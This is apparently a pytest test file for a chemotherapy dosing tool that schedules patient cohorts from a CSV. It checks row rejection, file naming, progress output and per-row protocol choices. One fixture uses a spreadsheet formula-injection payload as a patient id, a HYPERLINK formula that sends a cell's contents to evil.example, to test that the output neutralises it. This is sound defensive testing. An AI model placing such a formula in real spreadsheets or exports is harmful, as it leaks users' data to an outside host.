"""Cohorts: many patients from one CSV, scheduled lazily, written as a stream or as files."""

from __future__ import annotations

import collections
import csv
import datetime as dt
import io
import itertools
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

import dosing
from dosing._cli import Progress, main
from dosing.cohort import (
    COHORT_COLUMNS,
    ClinicDays,
    PatientRow,
    Rejected,
    Scheduled,
    cohort_header_lines,
    existing_files,
    parse_choose,
    patient_line,
    read_patients,
    safe_file_name,
    schedule_patients,
    write_cohort_csv,
    write_cohort_files,
    write_cohort_jsonl,
)
from dosing.errors import DosingError
from dosing.export._common import header, rows
from dosing.export.table import to_csv, write_csv_rows

TODAY = dt.date.today()
START = (TODAY + dt.timedelta(days=3)).isoformat()
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
#: HOSTILE as a CSV cell: a quote before the formula, and before the quote after the comma.
SAFE_HOSTILE = '\'=HYPERLINK("http://evil.example/?x="&A1,\'"click")'

MIXED = f"""\
id,height,weight,start,choose
P001,175cm,80kg,{START},
P002,175kg,80kg,{START},
P003,5 ft 9 in,176lb,{START},dexamethasone=20
P004,175cm,80kg,03/04/2026,
P005,175cm,80kg,{START},carfilzomib=36
P006,175cm,,{START},
"{HOSTILE.replace('"', '""')}",180cm,90kg,{START},
P008,tall,80kg,{START},
"""
#: Line number of each bad row in MIXED, and a word its message must contain.
BAD_LINES = {
    3: "height must be a length",
    5: "ambiguous",
    6: "choose",
    7: "weight must be given",
    9: "height must be a length",
}
GOOD_IDS = ["P001", "P003", HOSTILE]


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _data_rows(path: Path) -> list[list[str]]:
    """The combined CSV's rows after the header block and column row."""
    lines = [
        ln
        for ln in path.read_bytes().decode("utf-8").splitlines(keepends=True)
        if not ln.startswith("#")
    ]
    table = list(csv.reader(lines))
    assert tuple(table[0]) == COHORT_COLUMNS
    return table[1:]


def _expected_schedule(
    height: str, weight: str, choices: dict[str, str] | None = None, identifier: str = "x"
) -> dosing.Schedule:
    patient = dosing.Patient(height=height, weight=weight, identifier=identifier)
    return dosing.build_schedule(
        dosing.get_protocol("D-KRd"), patient, START, cycles=2, choices=choices
    )


def _run(*argv: str) -> int:
    return main(["cohort", *argv])


# -- the command: combined CSV ------------------------------------------------------------


def test_good_rows_are_written_and_bad_rows_reported_with_their_line(tmp_path, capsys):
    """Bad rows are reported as `line N: ...` with the right line, the rest written, exit 2."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    status = _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    err = capsys.readouterr().err
    assert status == 2
    reported = [ln for ln in err.splitlines() if ln.startswith("line ")]
    assert [int(ln.split(":")[0].split()[1]) for ln in reported] == sorted(BAD_LINES)
    for line in reported:
        number = int(line.split(":")[0].split()[1])
        assert BAD_LINES[number] in line
    assert "3 patients" in err.splitlines()[-1]
    assert "5 rows rejected" in err.splitlines()[-1]
    written = list(dict.fromkeys(r[0] for r in _data_rows(out)))
    assert written == ["P001", "P003", SAFE_HOSTILE]


def test_combined_row_count_is_the_sum_of_each_patients_administrations(tmp_path):
    """The combined CSV has exactly one row per administration of every good patient."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    expected = (
        len(_expected_schedule("175cm", "80kg").administrations)
        + len(_expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"}).administrations)
        + len(_expected_schedule("180cm", "90kg").administrations)
    )
    assert len(_data_rows(out)) == expected


def test_combined_rows_equal_the_single_patient_csv_rows(tmp_path):
    """Each patient's rows are the single-patient CSV rows after its id and protocol, cell for cell."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    schedule = _expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"})
    single = io.StringIO()
    write_csv_rows(single, rows(schedule))
    expected = [["P003", "D-KRd", *cells] for cells in csv.reader(io.StringIO(single.getvalue()))]
    assert [r for r in _data_rows(out) if r[0] == "P003"] == expected


def test_hostile_id_is_neutralised_in_the_combined_csv(tmp_path):
    """An id that a spreadsheet would run as a formula is written with a leading quote."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    ids = {r[0] for r in _data_rows(out)}
    assert SAFE_HOSTILE in ids
    assert not any(i.startswith(("=", "+", "-", "@")) for i in ids)


def test_header_block_comes_once_with_the_notice_and_settings(tmp_path):
    """The `#` block names protocol, cycles, BSA formula and choices and carries the notice once."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(
        str(patients),
        "--protocol",
        "D-KRd",
        "--cycles",
        "2",
        "--bsa-formula",
        "dubois",
        "--generated-at",
        "2026-01-01T00:00:00Z",
        "-o",
        str(out),
    )
    text = out.read_bytes().decode("utf-8")
    comments = [ln for ln in text.splitlines() if ln.startswith("#")]
    assert text.startswith("# D-KRd cohort dosing calendar\r\n")
    assert text.count(dosing.VERIFICATION_NOTICE) == 1
    assert "# cycles: 2 (requested) of 28 days from each patient's start date" in comments
    assert "# BSA formula: DuBois" in comments[3]
    assert any(
        ln.startswith("# choices: dexamethasone 40 mg per week (default)") for ln in comments
    )
    assert "# generated: 2026-01-01T00:00:00Z" in comments
    assert all(ln.startswith("#") for ln in text.split("patient,protocol,date,")[0].splitlines())


def test_each_patient_gets_a_line_with_measurements_bsa_and_choices(tmp_path):
    """Before its rows, each patient has a `# patient` line: height, weight, BSA, choices."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    lines = out.read_bytes().decode("utf-8").split("\r\n")
    starts = [i for i, ln in enumerate(lines) if ln.startswith("# patient ")]
    assert [lines[i].split(":")[0] for i in starts[:2]] == ["# patient P001", "# patient P003"]
    for i in starts:
        assert not lines[i - 1].startswith("# patient ")
        assert not lines[i + 1].startswith("#")
    assert lines[starts[1]] == (
        "# patient P003: protocol D-KRd (cohort), cycles 2 (cohort), "
        "height 5 ft 9 in = 175.26 cm, weight 176 lb = 79.8323 kg, "
        "BSA 1.971 m² (Mosteller), choices: dexamethasone 20 mg per week (chosen)"
    )
    assert "dexamethasone 40 mg per week (default)" in lines[starts[0]]
    assert "(chosen)" not in lines[starts[0]]


def test_patient_lines_never_hand_a_spreadsheet_a_formula(tmp_path):
    """Read as a spreadsheet would, no cell of the file - comment lines too - starts a formula."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    out = tmp_path / "all.csv"
    _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
    text = out.read_bytes().decode("utf-8")
    # the piece after the comma would open a quoted field in a spreadsheet: it is neutralised
    assert '# patient =HYPERLINK("http://evil.example/?x="&A1,\'"click"): protocol D-KRd' in text
    for cells in csv.reader(io.StringIO(text)):
        for cell in cells:
            if cell.lstrip()[:1] in {"=", "+", "-", "@"}:
                float(cell)


def test_header_block_is_the_export_header_without_the_patient_fields():
    """The block repeats `header()`'s protocol-wide fields and drops measurements, BSA and dates."""
    protocol = dosing.get_protocol("KRd")
    moment = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    lines = cohort_header_lines(protocol, generated_at=moment)
    patient = dosing.Patient(height="175 cm", weight="80 kg", identifier="P1")
    single = dosing.build_schedule(protocol, patient, START)
    shared = {"protocol", "generated", "sources"}
    for label, text in header(single, generated_at=moment).fields:
        if label in shared:
            assert f"{label}: {text}" in lines
        elif label not in {"choices", "cycles"}:
            assert not any(line.startswith(f"{label}:") for line in lines), label
    assert lines[1:5] == [
        f"protocol: {dict(header(single).fields)['protocol']}",
        "cycles: 8 (protocol default) of 28 days from each patient's start date",
        "BSA formula: Mosteller (default)",
        "choices: carfilzomib 56 mg/m² (default); dexamethasone 40 mg per week (default); "
        "a patient's choose cell or drug column replaces a default for that patient",
    ]
    assert lines[-1] == f"NOTICE: {dosing.VERIFICATION_NOTICE}"


def test_cohort_module_does_not_import_the_command_line():
    """dosing.cohort is a library module: importing and using it leaves dosing._cli unloaded."""
    code = (
        "import sys, io, dosing.cohort as c, dosing\n"
        "k = dosing.get_protocol('KRd')\n"
        f"r = c.schedule_patients(k, ['id,height,weight,start', 'A,175cm,80kg,{START}'])\n"
        "c.write_cohort_csv(io.StringIO(), r, protocol=k)\n"
        "assert 'dosing._cli' not in sys.modules and 'argparse' not in sys.modules\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


def test_all_good_rows_exit_zero(tmp_path, capsys):
    """A file with only good rows exits 0 and says how many were written."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = str(tmp_path / "o.csv")
    status = _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", out)
    assert status == 0
    assert "wrote 1 patient (31 administrations)" in capsys.readouterr().err


def test_existing_combined_file_needs_force(tmp_path, capsys):
    """An existing output is left alone without --force (exit 2) and replaced with it."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = _write(tmp_path / "o.csv", "keep me")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out)) == 2
    assert "--force" in capsys.readouterr().err
    assert out.read_text() == "keep me"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out), "--force") == 0
    assert out.read_text(encoding="utf-8").startswith("# KRd cohort dosing calendar")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.csv", "p.csv"]


def test_missing_input_file_exits_2_with_one_line_and_no_output(tmp_path, capsys):
    """A missing patients file gives one error line, status 2, and creates no output."""
    out = tmp_path / "o.csv"
    status = _run(str(tmp_path / "nope.csv"), "--protocol", "KRd", "-o", str(out))
    err = capsys.readouterr().err
    assert status == 2
    assert err.count("\n") == 1
    assert "nope.csv" in err
    assert "no such file" in err
    assert not out.exists()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "empty file"),
        ("\n\n", "empty file"),
        ("id,height,weight,start\n\n", "no rows"),
        ("id,height,weight\nA,175cm,80kg\n", "'start'"),
        ("id,height,weight,start,ward,bed\n", "no rows"),
        ("id,hieght,weight,start\n", "'hieght' (did you mean 'height'?)"),
        ("id,height,,weight,start\n", "an empty name in column 3"),
        ("id,height,weight,start,ID\n", "repeated"),
    ],
)
def test_unusable_file_exits_2_and_creates_no_output(tmp_path, capsys, text, words):
    """An empty file, a missing column or an unknown column is named; nothing is written."""
    patients = _write(tmp_path / "p.csv", text)
    out = tmp_path / "o.csv"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out)) == 2
    assert words in capsys.readouterr().err
    assert not out.exists()


def test_bom_and_header_case_are_tolerated(tmp_path):
    """A UTF-8 byte order mark and upper-case header names are read normally."""
    patients = tmp_path / "p.csv"
    patients.write_bytes(f"\ufeffID,Height,WEIGHT,Start\r\nA,175cm,80kg,{START}\r\n".encode())
    out = str(tmp_path / "o.csv")
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", out) == 0


def test_undecodable_bytes_reject_only_their_row(tmp_path, capsys):
    """A row with bytes that are not UTF-8 is rejected by its line; the other rows are written."""
    patients = tmp_path / "p.csv"
    good = f"id,height,weight,start\nA,175cm,80kg,{START}\n".encode()
    bad = b"B,175cm,80kg,\xff\xfe\n"
    patients.write_bytes(good + bad + f"C,175cm,80kg,{START}\n".encode())
    out = tmp_path / "o.csv"
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(out)) == 2
    assert "line 3: row must be UTF-8 text" in capsys.readouterr().err
    assert [r[0] for r in _data_rows(out)][::31] == ["A", "C"]


def test_text_that_fails_to_decode_ends_the_reading_with_a_rejection():
    """An iterable that raises UnicodeDecodeError ends the results with one rejected item."""

    def lines() -> Iterator[str]:
        yield "id,height,weight,start\n"
        yield f"A,175cm,80kg,{START}\n"
        raise UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte")

    results = list(schedule_patients(dosing.get_protocol("KRd"), lines(), cycles=1))
    assert [type(r).__name__ for r in results] == ["Scheduled", "Rejected"]
    assert "not read" in str(results[1])


def test_format_is_refused_for_a_combined_csv(tmp_path, capsys):
    """--format ics with a .csv output is an error naming --format; nothing is written."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = str(tmp_path / "o.csv")
    assert _run(str(patients), "--protocol", "KRd", "-o", out, "--format", "ics") == 2
    assert "--format" in capsys.readouterr().err


def test_a_single_calendar_file_name_is_refused(tmp_path, capsys):
    """-o all.ics is neither a CSV nor a folder: the error says to give a folder."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(tmp_path / "all.ics")) == 2
    assert "folder" in capsys.readouterr().err
    assert not (tmp_path / "all.ics").exists()


# -- the command: one file per patient ----------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "json", "md", "ics"])
def test_folder_output_writes_one_file_per_good_patient(tmp_path, fmt):
    """-o DIR/ writes <safe id>.<ext> for each good row and nothing for the bad ones."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    folder = tmp_path / "calendars"
    status = _run(
        str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", f"{folder}/", "--format", fmt
    )
    assert status == 2
    names = sorted(p.name for p in folder.iterdir())
    assert names == sorted(f"{safe_file_name(i)}.{fmt}" for i in GOOD_IDS)
    if fmt == "json":
        data = json.loads((folder / "P003.json").read_text(encoding="utf-8"))
        assert len(data["administrations"]) == len(
            _expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"}).administrations
        )


def test_folder_output_defaults_to_ics(tmp_path):
    """Without --format, per-patient files are iCalendar files."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    folder = tmp_path / "out"
    folder.mkdir()
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(folder)) == 0
    assert (folder / "A.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")


def test_existing_patient_files_are_reported_once_before_any_work(tmp_path, capsys):
    """Existing per-patient files give one line naming how many and --force; nothing is written."""
    rows = "".join(f"{i},175cm,80kg,{START}\n" for i in "ABCDE")
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\n{rows}")
    folder = tmp_path / "out"
    folder.mkdir()
    for name in ("A", "C", "D", "E"):
        _write(folder / f"{name}.csv", "keep me")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(folder), "--format", "csv") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "holds 4 files of it already (A.csv, C.csv, D.csv, ...)" in err
    assert "pass --force" in err
    assert sorted(p.name for p in folder.iterdir()) == ["A.csv", "C.csv", "D.csv", "E.csv"]
    assert (folder / "A.csv").read_text() == "keep me"
    args = (str(patients), "--protocol", "KRd", "-o", str(folder), "--format", "csv", "--force")
    assert _run(*args) == 0
    assert (folder / "A.csv").read_text(encoding="utf-8").startswith("# KRd dosing calendar")
    assert len(list(folder.iterdir())) == 5


def test_a_file_that_appears_after_the_check_rejects_only_its_row(tmp_path):
    """A file created between the check and the writing is still refused, for its row only."""
    protocol = dosing.get_protocol("KRd")
    lines = ["id,height,weight,start", f"A,175cm,80kg,{START}", f"B,175cm,80kg,{START}"]
    assert existing_files(tmp_path, lines, fmt="csv") == []
    _write(tmp_path / "A.csv", "another run's")
    seen: list[Rejected] = []
    results = schedule_patients(protocol, lines, cycles=1)
    summary = write_cohort_files(tmp_path, results, fmt="csv", on_rejected=seen.append)
    assert (summary.patients, summary.rejected) == (1, 1)
    assert [r.line for r in seen] == [2]
    assert "does not exist yet" in seen[0].message
    assert (tmp_path / "A.csv").read_text() == "another run's"


def test_clashing_file_names_are_made_unique(tmp_path):
    """Ids that sanitise to the same name (or differ in case) get -2, -3 suffixes."""
    text = "id,height,weight,start\n" + "".join(
        f"{i},175cm,80kg,{START}\n" for i in ("a b", "a/b", "A_B", "../a b")
    )
    patients = _write(tmp_path / "p.csv", text)
    folder = tmp_path / "out"
    assert (
        _run(
            str(patients),
            "--protocol",
            "KRd",
            "--cycles",
            "1",
            "-o",
            f"{folder}/",
            "--format",
            "csv",
        )
        == 0
    )
    assert sorted(p.name for p in folder.iterdir()) == [
        "A_B-3.csv",
        "a_b-2.csv",
        "a_b-4.csv",
        "a_b.csv",
    ]


# -- the command: progress ----------------------------------------------------------------


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_bar_is_drawn_only_on_a_terminal(tmp_path, monkeypatch):
    """On a terminal stderr shows `[###...] n/N`; --no-progress and pipes show none."""
    patients = _write(tmp_path / "patients.csv", MIXED)
    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(tmp_path / "a.csv"))
    assert "\r[" in terminal.getvalue()
    assert "] 8/8\n" in terminal.getvalue()
    quiet = _Terminal()
    monkeypatch.setattr("sys.stderr", quiet)
    _run(
        str(patients),
        "--protocol",
        "KRd",
        "--cycles",
        "1",
        "-o",
        str(tmp_path / "b.csv"),
        "--no-progress",
    )
    assert "\r" not in quiet.getvalue()
    piped = io.StringIO()
    monkeypatch.setattr("sys.stderr", piped)
    _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(tmp_path / "c.csv"))
    assert "\r" not in piped.getvalue()


def test_progress_ends_at_the_rows_read_when_blank_lines_inflate_the_estimate(
    tmp_path, monkeypatch
):
    """The total is estimated from line ends; the final drawing shows the rows actually read."""
    text = f"id,height,weight,start\n\nA,175cm,80kg,{START}\n\n\nB,175cm,80kg,{START}\n"
    patients = _write(tmp_path / "p.csv", text)
    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(tmp_path / "a.csv"))
    assert terminal.getvalue().split("\n")[0].endswith("] 2/2")


def test_progress_redraws_at_most_ten_times_a_second():
    """Updates closer than 0.1 s to the last drawing are skipped."""
    times = iter([0.0, 0.05, 0.09, 0.1, 0.15, 0.3])
    out = io.StringIO()
    bar = Progress(out, total=6, width=6, clock=lambda: next(times))
    for done in range(1, 7):
        bar.update(done)
    assert out.getvalue() == "\r[#     ] 1/6\r[####  ] 4/6\r[######] 6/6"


# -- the library --------------------------------------------------------------------------


def test_results_are_lazy_one_row_per_item():
    """Taking one result from a million-row input reads only the header and one row."""
    consumed = itertools.count()

    def lines() -> Iterator[str]:
        yield "id,height,weight,start\n"
        for i in range(1_000_000):
            next(consumed)
            yield f"P{i},175cm,80kg,{START}\n"

    results = schedule_patients(dosing.get_protocol("D-KRd"), lines(), cycles=12)
    first = next(results)
    assert isinstance(first, Scheduled)
    assert first.identifier == "P0"
    assert next(consumed) <= 2


def test_line_numbers_count_physical_lines():
    """Blank lines and quoted cells spanning lines keep the reported line numbers right."""
    text = f'id,height,weight,start\n\n"A\nB",175cm,80kg,{START}\nC,9cm,80kg,{START}\n'
    results = list(schedule_patients(dosing.get_protocol("KRd"), io.StringIO(text), cycles=1))
    assert [type(r).__name__ for r in results] == ["Scheduled", "Rejected"]
    assert [r.line for r in results] == [3, 5]


def test_duplicate_ids_are_rejected():
    """The same id twice would mix two schedules in one file: the second row is rejected."""
    text = f"id,height,weight,start\nA,175cm,80kg,{START}\nA,170cm,70kg,{START}\n"
    results = list(schedule_patients(dosing.get_protocol("KRd"), text.splitlines(), cycles=1))
    assert isinstance(results[1], Rejected)
    assert "also on line 2" in str(results[1])


def test_too_many_cells_are_rejected():
    """A row with more cells than the header is rejected, not silently cut."""
    text = f"id,height,weight,start\nA,175cm,80kg,{START},x\n"
    [result] = read_patients(text.splitlines())
    assert isinstance(result, Rejected)
    assert "5" in result.message


def test_invalid_cycles_fail_before_any_row():
    """A cycle count the protocol does not allow is one error, not one per row."""
    with pytest.raises(DosingError, match="cycles"):
        schedule_patients(dosing.get_protocol("KRd"), ["id,height,weight,start"], cycles=0)


def test_choose_cell_is_parsed_and_checked():
    """`choose` holds DRUG=VALUE pairs split by `;`; malformed pairs are refused."""
    assert parse_choose("carfilzomib=36;dexamethasone=20;") == {
        "carfilzomib": "36",
        "dexamethasone": "20",
    }
    with pytest.raises(DosingError, match="choose"):
        parse_choose("carfilzomib=36;carfilzomib=56")


def test_outlier_patient_is_flagged_in_the_combined_csv():
    """A patient accepted outside the adult range gets a `#` line saying so."""
    protocol = dosing.get_protocol("KRd")
    lines = ["id,height,weight,start", f"A,95cm,80kg,{START}"]
    out = io.StringIO()
    summary = write_cohort_csv(
        out,
        schedule_patients(protocol, lines, cycles=1, accept_outlier=True),
        protocol=protocol,
        cycles=1,
    )
    assert summary.patients == 1
    assert "# patient A: height 95 cm is outside the adult range" in out.getvalue()


def test_rows_with_a_bare_number_beside_imperial_units_are_rejected_with_their_line():
    """A bare weight beside inches, or a bare height beside pounds, rejects that row only."""
    text = (
        "id,height,weight,start\n"
        f"A,69in,176,{START}\n"
        f"B,175,176lb,{START}\n"
        f"C,175,80kg,{START}\n"
        f"D,69in,176kg,{START}\n"
    )
    results = list(schedule_patients(dosing.get_protocol("KRd"), text.splitlines(), cycles=1))
    assert [(type(r).__name__, r.line) for r in results] == [
        ("Rejected", 2),
        ("Rejected", 3),
        ("Scheduled", 4),
        ("Rejected", 5),
    ]
    assert str(results[0]).startswith(
        "line 2: weight must be given with a unit when height is in imperial units (69 in), "
        "got '176' - did you mean 176 lb (79.83 kg) or 176 kg?"
    )
    assert str(results[1]).startswith("line 3: height must be given with a unit when weight")
    assert str(results[3]).startswith("line 5: BMI must be between 12 and 50 kg/m²")


def test_write_cohort_files_renders_each_patient(tmp_path):
    """The library writer calls `render` once per scheduled patient and names files safely."""
    protocol = dosing.get_protocol("KRd")
    quoted = '"' + HOSTILE.replace('"', '""') + '"'
    lines = ["id,height,weight,start", f"{quoted},175cm,80kg,{START}", f"B,175cm,9kg,{START}"]
    seen: list[Rejected] = []
    summary = write_cohort_files(
        tmp_path,
        schedule_patients(protocol, lines, cycles=1),
        render=to_csv,
        extension="csv",
        on_rejected=seen.append,
    )
    assert (summary.patients, summary.rejected) == (1, 1)
    assert [r.line for r in seen] == [3]
    [written] = tmp_path.iterdir()
    assert written.name == "HYPERLINK_http_evil.example_x_A1_click.csv"


@pytest.mark.parametrize(
    ("identifier", "name"),
    [
        ("MRN 0001", "MRN_0001"),
        ("../../x", "x"),
        ("...", "patient"),
        ("NUL.txt", "_NUL.txt"),
        ("Müller", "M_ller"),
        ("x" * 300, "x" * 80),
    ],
)
def test_safe_file_name(identifier, name):
    """Ids become portable file names: no separators, no dot files, no device names."""
    assert safe_file_name(identifier) == name


class _Trickle(io.RawIOBase):
    """A stream that gives one byte per read, so that every line end is split across reads."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        head, self._data = self._data[:1], self._data[1:]
        return head


def test_line_ends_split_across_reads_are_read_once():
    """LF, CRLF and CR alone end one line each, even when a CRLF is split between two reads."""
    from dosing.patients_file import _text_lines

    data = b"a\r\nb\rc\nd\r\r\ne\r"
    expected = ["a\n", "b\n", "c\n", "d\n", "\n", "e\n"]
    assert list(_text_lines(io.BytesIO(data))) == expected
    assert list(_text_lines(_Trickle(data))) == expected  # type: ignore[arg-type]


# -- rows with their own protocol, cycles, choices and facts ---------------------------------

DAY = dt.date(2026, 1, 1)
KRD = dosing.get_protocol("KRd")


def _one(text: str, protocol: dosing.Protocol | None = KRD, **settings: object) -> Scheduled:
    """The single result of a one-row patients text, which must be scheduled."""
    [result] = schedule_patients(protocol, text.splitlines(), today=DAY, **settings)
    assert isinstance(result, Scheduled), result
    return result


def _doses(result: Scheduled, drug: str) -> list[tuple[int, str]]:
    return [(a.day, a.dose.text) for a in result.schedule.by_drug()[drug]]


def test_a_protocol_column_gives_each_row_its_own_protocol():
    """Without a cohort protocol, each row is scheduled under the protocol its cell names."""
    text = (
        "id,height,weight,start,protocol\n"
        "A,175cm,80kg,2026-01-05,KRd\n"
        "B,175cm,80kg,2026-01-05,d-krd\n"
        "C,175cm,80kg,2026-01-05,builtin:KdD\n"
    )
    results = list(schedule_patients(None, text.splitlines(), cycles=1, today=DAY))
    assert [r.schedule.protocol.id for r in results if isinstance(r, Scheduled)] == [
        "KRd",
        "D-KRd",
        "KdD",
    ]


def test_a_protocol_cell_wins_and_the_cohort_protocol_fills_the_empty_ones(tmp_path):
    """--protocol KRd: a D-KRd cell keeps D-KRd, an empty cell gets KRd; each line says which."""
    text = f"id,height,weight,start,protocol\nA,175cm,80kg,{START},D-KRd\nB,175cm,80kg,{START},\n"
    patients = _write(tmp_path / "p.csv", text)
    out = tmp_path / "all.csv"
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(out)) == 0
    rows = _data_rows(out)
    assert {(r[0], r[1]) for r in rows} == {("A", "D-KRd"), ("B", "KRd")}
    lines = out.read_bytes().decode("utf-8").splitlines()
    assert "# patient A: protocol D-KRd (row), cycles 1 (cohort), height 175 cm" in "\n".join(lines)
    assert "# patient B: protocol KRd (cohort), cycles 1 (cohort), height 175 cm" in "\n".join(
        lines
    )
    described = [ln.split(":")[0] for ln in lines if ln.startswith("# protocol ") and ": " in ln]
    assert "# protocol D-KRd" in described
    assert "# protocol KRd" in described
    assert lines[0] == "# cohort dosing calendar"
    assert lines.index(
        "# protocol D-KRd cycles: 8 by default, of 28 days from each patient's start date"
    ) < next(i for i, ln in enumerate(lines) if ln.startswith("# patient A:"))


def test_an_empty_protocol_cell_without_a_cohort_protocol_rejects_its_row():
    """No cell and no cohort protocol: that row is rejected, saying how to give one."""
    text = (
        "id,height,weight,start,protocol\nA,175cm,80kg,2026-01-05,\nB,175cm,80kg,2026-01-05,KRd\n"
    )
    results = list(schedule_patients(None, text.splitlines(), cycles=1, today=DAY))
    assert isinstance(results[0], Rejected)
    assert str(results[0]) == (
        "line 2: protocol must be given in the row or for the whole cohort, got an empty cell "
        "- fill the cell, or name the cohort's protocol (CLI: --protocol)"
    )
    assert isinstance(results[1], Scheduled)


def test_an_unknown_protocol_cell_rejects_only_its_row():
    """A protocol cell that names no protocol rejects its row with the usual suggestions."""
    text = (
        "id,height,weight,start,protocol\nA,175cm,80kg,2026-01-05,DKR\nB,175cm,80kg,2026-01-05,\n"
    )
    results = list(schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY))
    assert isinstance(results[0], Rejected)
    assert "protocol must be a known id or alias, got 'DKR' - did you mean D-KRd" in str(results[0])
    assert isinstance(results[1], Scheduled)


def test_without_a_protocol_column_a_cohort_protocol_is_needed(tmp_path, capsys):
    """Neither --protocol nor a protocol column: one line before any output, exit 2."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = tmp_path / "o.csv"
    assert _run(str(patients), "-o", str(out)) == 2
    err = capsys.readouterr().err
    assert err == (
        "dosing: error: protocol must be given for the whole cohort or in a protocol column of "
        "the patients file, got neither - add the column, or name the cohort's protocol "
        "(CLI: --protocol)\n"
    )
    assert not out.exists()


def test_a_cycles_cell_wins_over_the_cohort_cycles():
    """A cycles cell of 2 gives 2 cycles though the cohort asks for 1; an empty cell gives 1."""
    text = "id,height,weight,start,cycles\nA,175cm,80kg,2026-01-05,2\nB,175cm,80kg,2026-01-05,\n"
    results = list(schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY))
    assert [r.schedule.cycles for r in results if isinstance(r, Scheduled)] == [2, 1]
    assert patient_line("A", results[0].schedule, row=results[0].row).startswith(
        "# patient A: protocol KRd (cohort), cycles 2 (row),"
    )


@pytest.mark.parametrize(
    ("cell", "fragment"),
    [
        ("2.5", "cycles must be a whole number, got '2.5'"),
        ("two", "cycles must be a whole number, got 'two'"),
        ("30", "cycles must be between 1 and 24, got 30"),
    ],
)
def test_a_bad_cycles_cell_rejects_its_row(cell, fragment):
    """A cycles cell that is not a whole number the protocol allows rejects the row."""
    text = f"id,height,weight,start,cycles\nA,175cm,80kg,2026-01-05,{cell}\n"
    [result] = schedule_patients(KRD, text.splitlines(), today=DAY)
    assert isinstance(result, Rejected)
    assert fragment in result.message


def test_a_drug_column_holds_that_drugs_choice():
    """A dexamethasone column of 20 gives 20 mg a week, marked chosen; an empty cell the default."""
    text = (
        "id,height,weight,start,Dexamethasone,carfilzomib\n"
        "A,175cm,80kg,2026-01-05,20,36\n"
        "B,175cm,80kg,2026-01-05,,\n"
    )
    results = list(schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY))
    assert _doses(results[0], "dexamethasone") == [
        (1, "20 mg"),
        (8, "20 mg"),
        (15, "20 mg"),
        (22, "20 mg"),
    ]
    assert _doses(results[0], "carfilzomib")[2] == (8, "71 mg")
    assert _doses(results[1], "dexamethasone")[0] == (1, "40 mg")
    assert (
        str(results[0].schedule.choices["dexamethasone"]) == "dexamethasone 20 mg per week (chosen)"
    )


def test_a_drug_given_in_choose_and_in_its_column_rejects_the_row():
    """The same drug chosen twice in one row is refused, whatever the two values."""
    text = (
        "id,height,weight,start,choose,dexamethasone\nA,175cm,80kg,2026-01-05,dexamethasone=20,20\n"
    )
    [result] = schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY)
    assert isinstance(result, Rejected)
    assert (
        "dexamethasone must be chosen once, in the choose cell or in its own column"
        in result.message
    )


